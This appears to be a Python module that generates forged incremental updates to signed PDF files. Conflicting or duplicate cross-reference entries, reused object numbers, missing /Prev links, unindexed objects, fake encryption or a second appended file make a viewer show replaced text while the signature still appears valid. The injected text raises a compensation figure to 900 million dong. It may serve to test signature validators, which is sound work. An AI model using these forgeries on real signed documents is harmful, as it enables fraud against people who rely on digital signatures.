"""Updates whose cross-reference sections say two things at once, or nothing.

Programs differ in which of two entries for one object they take, so that a judge may see the
signed document and a reader another one. They are written by hand: no library writes such files.
"""

import re
from collections.abc import Callable
from types import MappingProxyType
from typing import Final

Forge = Callable[[bytes], bytes]

_LIE: Final = b"BT /F1 18 Tf 72 700 Td (Muc bo thuong: 900 trieu dong) Tj ET"


def _start(pdf: bytes) -> int:
    return int(pdf.rsplit(b"startxref", 1)[1].split()[0])


def _size(pdf: bytes) -> int:
    return max(int(n) for n in re.findall(rb"/Size (\d+)", pdf))


def _root(pdf: bytes) -> bytes:
    return re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]


def _content(pdf: bytes) -> int:
    """Return the number of the first stream that a page shows."""
    for match in re.finditer(rb"\n(\d+) 0 obj\s", pdf):
        if b" Tj" in pdf[match.end() : pdf.index(b"endobj", match.end())]:
            return int(match[1])
    raise LookupError


def _original(pdf: bytes, number: int) -> int:
    found = re.search(rb"\n%d 0 obj" % number, pdf)
    assert found
    return found.start() + 1


def _stream(number: int, data: bytes = _LIE, generation: int = 0) -> bytes:
    head = b"%d %d obj\n<< /Length %d >>\nstream\n" % (number, generation, len(data))
    return b"\n" + head + data + b"\nendstream\nendobj\n"


def _row(place: int, generation: int = 0) -> bytes:
    return b"%010d %05d n \n" % (place, generation)


def _finished(pdf: bytes, body: bytes, sections: bytes, *, prev: int, more: bytes = b"") -> bytes:
    trailer = b"trailer\n<< /Size %d /Root %b /Prev %d %b >>\n" % (
        *(_size(pdf), _root(pdf)),
        *(prev, more),
    )
    place = len(pdf) + len(body)
    return pdf + body + b"xref\n" + sections + trailer + b"startxref\n%d\n%%%%EOF\n" % place


def two_entries_original_first(pdf: bytes) -> bytes:
    """Name one object twice in one section: as it was, then as the attacker wants it."""
    number = _content(pdf)
    rows = (_row(_original(pdf, number)), _row(len(pdf) + 1))
    sections = b"".join(b"%d 1\n%b" % (number, row) for row in rows)
    return _finished(pdf, _stream(number), sections, prev=_start(pdf))


def two_entries_original_last(pdf: bytes) -> bytes:
    number = _content(pdf)
    rows = (_row(len(pdf) + 1), _row(_original(pdf, number)))
    sections = b"".join(b"%d 1\n%b" % (number, row) for row in rows)
    return _finished(pdf, _stream(number), sections, prev=_start(pdf))


def two_entries_in_a_stream(pdf: bytes) -> bytes:
    """Do the same in a cross-reference stream (ISO 32000-1 7.5.8)."""
    number, place = _content(pdf), len(pdf) + 1
    body = _stream(number)
    own, at = _size(pdf), len(pdf) + len(body) + 1
    rows = (_original(pdf, number), place, at)
    entries = b"".join(b"\1" + row.to_bytes(4) + b"\0" for row in rows)
    form = b"<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1 %d 1 %d 1] /Root %b"
    form += b" /Prev %d /Length %d >>"
    head = form % (own + 1, number, number, own, _root(pdf), _start(pdf), len(entries))
    body += b"\n%d 0 obj\n%b\nstream\n%b\nendstream\nendobj\n" % (own, head, entries)
    return pdf + body + b"startxref\n%d\n%%%%EOF\n" % at


def another_generation(pdf: bytes) -> bytes:
    """Free the object and use its number again, a generation later."""
    number = _content(pdf)
    sections = b"%d 1\n%b" % (number, _row(len(pdf) + 1, 1))
    return _finished(pdf, _stream(number, generation=1), sections, prev=_start(pdf))


def freed(pdf: bytes) -> bytes:
    sections = b"%d 1\n0000000000 00001 f \n" % _content(pdf)
    return _finished(pdf, b"\n", sections, prev=_start(pdf))


def misdirected(pdf: bytes) -> bytes:
    """Let the entry of one object lead to another one."""
    number = _content(pdf)
    sections = b"%d 1\n%b" % (number, _row(len(pdf) + 1))
    return _finished(pdf, _stream(_size(pdf)), sections, prev=_start(pdf))


def table_leads_to_itself(pdf: bytes) -> bytes:
    body = _stream(_size(pdf))
    return _finished(pdf, body, b"0 0\n", prev=len(pdf) + len(body))


def without_a_way_back(pdf: bytes) -> bytes:
    """Leave out /Prev: nothing of what was signed is reached any more."""
    whole = two_entries_original_last(pdf)
    return whole[: len(pdf)] + re.sub(rb"/Prev \d+", b"", whole[len(pdf) :])


def skips_the_signed_revision(pdf: bytes) -> bytes:
    """Go on from what was there before it was signed."""
    before = re.findall(rb"/Prev (\d+)", pdf)
    return _finished(pdf, b"\n", b"0 0\n", prev=int(before[-1]))


def objects_without_a_table(pdf: bytes) -> bytes:
    """Append objects, and a last word that leads to the signed revision's own table."""
    return pdf + _stream(_content(pdf)) + b"startxref\n%d\n%%%%EOF\n" % _start(pdf)


def object_beside_its_table(pdf: bytes) -> bytes:
    """Append an object that no table names, for readers that rebuild tables to find."""
    return _finished(pdf, _stream(_content(pdf)), b"0 0\n", prev=_start(pdf))


def trailer_without_a_table(pdf: bytes) -> bytes:
    trailer = b"trailer\n<< /Size %d /Root %b >>\n" % (_size(pdf), _root(pdf))
    return pdf + _stream(_content(pdf)) + trailer + b"startxref\n%d\n%%%%EOF\n" % _start(pdf)


def table_in_a_comment(pdf: bytes) -> bytes:
    whole = two_entries_original_last(pdf)
    return whole[: len(pdf)] + whole[len(pdf) :].replace(b"xref\n", b"%xref\n", 1)


def two_ends(pdf: bytes) -> bytes:
    """End twice: once with the update, then again with the signed revision's table."""
    whole = two_entries_original_last(pdf)
    return whole + b"startxref\n%d\n%%%%EOF\n" % _start(pdf)


def locked_afterwards(pdf: bytes) -> bytes:
    """Say in the update that the file is encrypted."""
    lock = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (%b) /U (%b) /P -4 >> /ID [(a) (a)]"
    keys = b"x" * 32
    return _finished(pdf, b"\n", b"0 0\n", prev=_start(pdf), more=lock % (keys, keys))


def another_file_behind(pdf: bytes) -> bytes:
    """Put a whole file behind the signed one, as two files in one."""
    return pdf + pdf.replace(b"500", b"900")


XREFS: Final = MappingProxyType(
    {
        forge.__name__: forge
        for forge in (
            *(two_entries_original_first, two_entries_original_last, two_entries_in_a_stream),
            *(another_generation, freed, misdirected, table_leads_to_itself, without_a_way_back),
            *(skips_the_signed_revision, objects_without_a_table, trailer_without_a_table),
            object_beside_its_table,
            *(table_in_a_comment, two_ends, locked_afterwards, another_file_behind),
        )
    }
)
